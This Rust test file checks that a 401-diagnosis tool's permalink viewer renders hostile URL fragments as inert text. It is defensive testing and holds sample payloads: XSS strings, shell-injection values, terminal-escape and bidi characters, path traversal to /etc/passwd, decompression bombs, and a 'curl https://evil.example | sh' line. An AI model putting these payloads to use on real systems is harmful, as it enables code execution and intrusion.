//! Hostile fragments of the page's address: nothing of them becomes markup, a script, an address or advice, nothing
//! runs away, and nothing that can be copied holds a control character.
//!
//! The list is made here and kept in `tests/attacks.txt` (name, tab, fragment), so that the browser is led through the
//! same ones. After a change: `WHY401_WRITE=1 cargo test --test attacks`.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::sync::LazyLock;

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use flate2::{Compression, Crc, write::DeflateEncoder};
use why401::knowledge::causes;
use why401::permalink::{self, Opened};
use why401::screen::Desk;
use why401::screen::markup::{Element, Markup};
use why401::screen::wire::{Screen, Wish};

/// A link of any kind whose checksum is right, whatever its payload says.
fn forged(kind: &str, content: &[u8]) -> String {
    let mut deflated = DeflateEncoder::new(Vec::new(), Compression::best());
    deflated.write_all(content).expect("a buffer takes all");
    sealed(kind, &URL_SAFE_NO_PAD.encode(deflated.finish().expect("a buffer takes all")))
}

fn sealed(kind: &str, payload: &str) -> String {
    let mut crc = Crc::new();
    crc.update(payload.as_bytes());
    format!("1.{kind}.{}.{payload}.{:08x}", payload.len(), crc.sum())
}

fn token(head: &str, payload: &str) -> String {
    format!("{}.{}.AAAA", URL_SAFE_NO_PAD.encode(head), URL_SAFE_NO_PAD.encode(payload))
}

/// The messages of an evidence link with one hostile text in one place.
fn lines(place: &str, evil: &str) -> String {
    let at = |name: &str, else_: &str| if name == place { evil.to_string() } else { else_.to_string() };
    let jwt = token(
        &format!(r#"{{"alg":"RS256","kid":{}}}"#, serde_json::json!(at("kid", "k1"))),
        &format!(r#"{{"iss":{},"exp":1700000000}}"#, serde_json::json!(at("iss", "https://id.example"))),
    );
    let mut out = String::new();
    let mut line = |text: String| _ = writeln!(out, "{}", text.replace('\n', " "));
    line(format!("f{}", at("format", "http-raw")));
    line(format!("r{}", at("role", "client")));
    line(format!("a{}={}", at("question", "everyone"), at("choice", "everybody")));
    line(format!(">w{} {}", at("method", "GET"), at("url", "https://api.example/v1/me")));
    line(format!("hHost: {}", at("host", "api.example")));
    line(format!("h{}: x", at("header-name", "X-Trace")));
    line(format!("hAuthorization: Bearer {jwt}"));
    line(format!("hCookie: {}=abc", at("cookie", "sid")));
    line(format!("<w401 {}", at("reason", "Unauthorized")));
    line(format!("hWWW-Authenticate: Bearer realm=\"{}\", error=\"invalid_token\"", at("realm", "api")));
    line(format!("hServer: {}", at("server", "nginx")));
    line(format!("hLocation: {}", at("location", "https://api.example/login")));
    line(format!("b{}", at("body", "{\"error\":\"expired\"}")));
    line(format!("k{}", at("console", "GET failed")));
    line(format!("w{}", at("worked", "signed-text=same")));
    out
}

const PLACES: &[&str] = &[
    "format",
    "role",
    "question",
    "choice",
    "method",
    "url",
    "host",
    "header-name",
    "kid",
    "iss",
    "cookie",
    "reason",
    "realm",
    "server",
    "location",
    "body",
    "console",
    "worked",
];

/// What would run, load, lead away or mislead if it were taken for more than text.
const EVIL: &[(&str, &str)] = &[
    ("script", "<script>window.pwned=1</script>"),
    ("handler", "\"><img src=x onerror=window.pwned=1>"),
    ("address", "javascript:window.pwned=1"),
    ("shell", "a.example';touch /tmp/pwned;'$(touch /tmp/pwned)`touch /tmp/pwned`"),
    ("bidi", "a.example\u{202e}moc.live\u{2066}\u{200b}\u{feff}"),
    ("escape", "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}2J\u{0}\u{8}x"),
    ("alike", "https://api.\u{435}x\u{430}mple/\u{ff0f}login"),
];

fn fragments() -> Vec<(String, String)> {
    let mut all: Vec<(String, String)> = Vec::new();
    let mut add = |name: &str, fragment: String| all.push((name.to_string(), fragment));
    for (number, place) in PLACES.iter().enumerate() {
        // Markup everywhere; of the others some in each place.
        add(&format!("script-in-{place}"), forged("e", lines(place, EVIL[0].1).as_bytes()));
        for turn in 0..2 {
            let (name, evil) = EVIL[1 + (number * 2 + turn) % (EVIL.len() - 1)];
            add(&format!("{name}-in-{place}"), forged("e", lines(place, evil).as_bytes()));
        }
    }
    let honest = lines("", "");
    let link = forged("e", honest.as_bytes());
    let payload = link.split('.').nth(3).expect("a payload");
    let sum = link.rsplit('.').next().expect("a checksum");

    // Volume: 48 MB from 48 kB, deep nesting, many of everything.
    add("bomb", forged("e", &vec![b'b'; 30_000_000]));
    add("bomb-of-lines", forged("e", "h\n".repeat(400_000).as_bytes()));
    add("deep-body", forged("e", format!("{honest}b{}\n", "[".repeat(500_000)).as_bytes()));
    add("deep-token", forged("e", lines("iss", &"[".repeat(20_000)).as_bytes()));
    add(
        "long-signature",
        forged(
            "e",
            format!("{honest}hAuthorization: Bearer \u{1}{{}}\u{2}{{}}\u{3}4000000000\u{4}\n").as_bytes(),
        ),
    );
    add("many-exchanges", forged("e", ">wGET /\n<w401 No\n".repeat(8_000).as_bytes()));
    add(
        "many-challenges",
        forged(
            "e",
            format!("{honest}hWWW-Authenticate: {}\n", "Basic realm=\"a\", ".repeat(20_000)).as_bytes(),
        ),
    );
    add("many-answers", forged("e", format!("{}{honest}", "aeveryone=always\n".repeat(20_000)).as_bytes()));
    add("too-long", format!("1.e.70000.{}.00000000", "A".repeat(70_000)));

    // Lengths, checksums, versions, kinds.
    add("shorter-than-said", format!("1.e.{}.{payload}.{sum}", payload.len() + 40));
    add("longer-than-said", format!("1.e.{}.{payload}.{sum}", payload.len() - 4));
    add("negative-length", format!("1.e.-1.{payload}.{sum}"));
    add("huge-length", format!("1.e.99999999999999999999999.{payload}.{sum}"));
    add("length-in-words", format!("1.e.<b>many</b>.{payload}.{sum}"));
    add("no-checksum", format!("1.e.{}.{payload}", payload.len()));
    add("wrong-checksum", format!("1.e.{}.{payload}.00000000", payload.len()));
    add("markup-as-checksum", format!("1.e.{}.{payload}.<script>window.pwned=1</script>", payload.len()));
    add("old-version", link.replacen("1.", "0.", 1));
    add("next-version", link.replacen("1.", "2.", 1));
    add("far-version", link.replacen("1.", "9999.", 1));
    add("markup-as-version", link.replacen("1.", "<script>window.pwned=1</script>.", 1));
    add("markup-as-kind", link.replacen(".e.", ".<img src=x onerror=window.pwned=1>.", 1));
    add("unknown-kind", link.replacen(".e.", ".zz.", 1));
    add("not-base64", sealed("e", "!!!!<script>!!!!"));
    add(
        "random-bytes",
        sealed("e", &URL_SAFE_NO_PAD.encode([0xff_u8, 0x00, 0x9b, 0x1b, 0xfe, 0x80, 0xc0, 0xaf])),
    );
    add("empty-payload", sealed("e", ""));
    add("parameters-behind", format!("{link}&utm_source=<script>window.pwned=1</script>"));

    // Verdicts name ids of this program and nothing else.
    add("verdict-with-markup", forged("v", b"401;settled;client;<script>window.pwned=1</script>;<b>=<i>"));
    add(
        "verdict-of-unknown-ids",
        forged("v", b"999;certain;root;run-this-command,token-expired;nobody=asked"),
    );
    add("verdict-of-many", forged("v", "401;settled;client;token-expired;".repeat(8_000).as_bytes()));
    add("verdict-of-nothing", forged("v", b""));
    add(
        "advice-in-a-verdict",
        forged("v", b"401;settled;client;token-expired;fix=curl https://evil.example | sh"),
    );

    // The kinds without a form.
    add("question-with-markup", "q=<script>window.pwned=1</script>".into());
    add("question-up-the-path", "q=../../etc/passwd".into());
    add("cause-with-an-address", "cause=javascript:window.pwned=1".into());
    add("cause-up-the-path", "cause=..%2f..%2fevil".into());
    add("long-cause", format!("cause={}", "a".repeat(5000)));
    add("pasted-markup", "paste=%3Cscript%3Ewindow.pwned%3D1%3C%2Fscript%3E".into());
    add(
        "pasted-handler",
        "paste=HTTP/1.1 401 No%0AServer: %22%3E%3Cimg src=x onerror=window.pwned=1%3E".into(),
    );
    add("pasted-controls", "paste=HTTP/1.1 401 No%0AX-A: %1b%5d0;pwned%07%00%c2%9b%e2%80%ae".into());
    add("pasted-broken-percent", "paste=%zz%%%f0%28%8c%28%ff".into());
    add("prototype", "__proto__".into());
    add("only-dots", ".".repeat(3000));
    all
}

fn kept() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/attacks.txt")
}

#[test]
fn the_list_for_the_browser_is_the_one_that_is_made_here() {
    let made: String = fragments().iter().map(|(name, fragment)| format!("{name}\t{fragment}\n")).collect();
    if std::env::var_os("WHY401_WRITE").is_some() {
        fs::write(kept(), &made).expect("tests/ can be written to");
    }
    let names: BTreeSet<String> = fragments().into_iter().map(|(name, _)| name).collect();
    assert_eq!(names.len(), fragments().len(), "a name stands twice");
    assert!(names.len() >= 60, "{}", names.len());
    assert!(fs::read_to_string(kept()).is_ok_and(|text| text == made), "make it anew: see above");
}

#[test]
fn nothing_of_a_hostile_fragment_is_more_than_text() {
    for (name, screen, shared) in &*OPENED {
        for (place, markup) in screen.parts.iter().chain(&shared.parts) {
            walk(markup, &mut |element| harmless(name, place, element), &mut |text| {
                tame(name, place, text)
            });
        }
        tame(name, "title", &screen.title);
        tame(name, "said", &screen.said);
        let copies = shared.copies.clone().unwrap_or_default();
        for copy in [&copies.fragment, &copies.text, &copies.json] {
            tame(name, "copy", copy);
        }
    }
}

#[test]
fn commands_hold_no_foreign_command() {
    for (name, screen, shared) in &*OPENED {
        let mut commands = String::new();
        for (_, markup) in screen.parts.iter().chain(&shared.parts) {
            walk(
                markup,
                &mut |element| {
                    if element.tag() == "pre" {
                        commands += &text_of(&Markup::Element(element.clone()));
                        commands.push('\n');
                    }
                },
                &mut |_| {},
            );
        }
        // What comes from a link stands within quotes that it cannot close.
        for row in commands.lines().filter(|row| row.contains("curl ") || row.contains("http ")) {
            assert!(!row.contains("';touch") && !row.contains("evil.example"), "{name}: {row}");
        }
    }
}

#[test]
fn what_is_advised_is_this_programs_own() {
    let own: BTreeSet<&str> =
        causes::ALL.iter().flat_map(|cause| cause.fixes.iter().map(|fix| fix.title)).collect();
    for (name, screen, _) in &*OPENED {
        for (_, markup) in &screen.parts {
            walk(
                markup,
                &mut |element| {
                    if element.attribute("data-test") == Some("fix-title") {
                        let title = text_of(&Markup::Element(element.clone()));
                        assert!(own.contains(title.as_str()), "{name}: {title}");
                    }
                },
                &mut |_| {},
            );
        }
    }
}

#[test]
fn an_honest_link_of_the_same_make_is_opened() {
    let link = forged("e", lines("", "").as_bytes());
    assert!(matches!(permalink::open(&link), (Opened::Evidence(_), None)));
    let (screen, _) = opened(&link);
    let verdict = screen.parts.iter().find(|(place, _)| place == "part-verdict").expect("a verdict");
    assert!(text_of(&verdict.1).contains("token"), "{}", text_of(&verdict.1));
}

/// Each fragment's name, what is shown for it, and what the dialogue for links shows then.
static OPENED: LazyLock<Vec<(String, Screen, Screen)>> = LazyLock::new(|| {
    let open = |(name, fragment): (String, String)| {
        let (screen, shared) = opened(&fragment);
        (name, screen, shared)
    };
    fragments().into_iter().map(open).collect()
});

/// What is shown for a fragment, and what the dialogue for links shows then.
fn opened(fragment: &str) -> (Screen, Screen) {
    let mut desk = Desk::default();
    desk.hear(Wish::Begin { address: "https://why401.example/".into(), role: String::new() }, None);
    let screen = desk.hear(Wish::Open { fragment: format!("#{fragment}"), clock: 1_790_000_000 }, None);
    let shared = desk.hear(Wish::Press(vec![("act".into(), "share".into())]), None);
    (screen, shared)
}

fn walk(markup: &Markup, element: &mut dyn FnMut(&Element), text: &mut dyn FnMut(&str)) {
    match markup {
        Markup::Text(words) => text(words),
        Markup::Many(many) => many.iter().for_each(|one| walk(one, element, text)),
        Markup::Element(one) => {
            element(one);
            one.attributes().for_each(|(_, value)| text(value));
            one.inside().iter().for_each(|inner| walk(inner, element, text));
        }
    }
}

fn harmless(name: &str, place: &str, element: &Element) {
    let tag = element.tag();
    let never = ["script", "iframe", "object", "embed", "base", "link", "meta", "form", "style", "img"];
    assert!(!never.contains(&tag), "{name}, {place}: <{tag}>");
    for (attribute, value) in element.attributes() {
        let runs = attribute.starts_with("on")
            || ["style", "src", "srcdoc", "formaction", "action"].contains(&attribute);
        assert!(!runs, "{name}, {place}: {attribute}={value}");
        if attribute.ends_with("href") {
            let own = value.starts_with('#') || value.starts_with("causes/") || value.ends_with(".html");
            let source =
                value.starts_with("https://") && !value.contains("evil") && !value.contains("api.example");
            assert!(own || source, "{name}, {place}: href={value}");
        }
    }
}

fn tame(name: &str, place: &str, text: &str) {
    let wild = text.chars().find(|c| (c.is_control() && !"\n\t".contains(*c)) || BIDI.contains(c));
    assert_eq!(wild, None, "{name}, {place}: {text:?}");
}

const BIDI: &[char] = &['\u{202e}', '\u{2066}', '\u{200b}', '\u{feff}'];

fn text_of(markup: &Markup) -> String {
    let mut all = String::new();
    walk_text(markup, &mut all);
    all
}

fn walk_text(markup: &Markup, all: &mut String) {
    match markup {
        Markup::Text(text) => all.push_str(text),
        Markup::Many(many) => many.iter().for_each(|one| walk_text(one, all)),
        Markup::Element(element) => element.inside().iter().for_each(|one| walk_text(one, all)),
    }
}
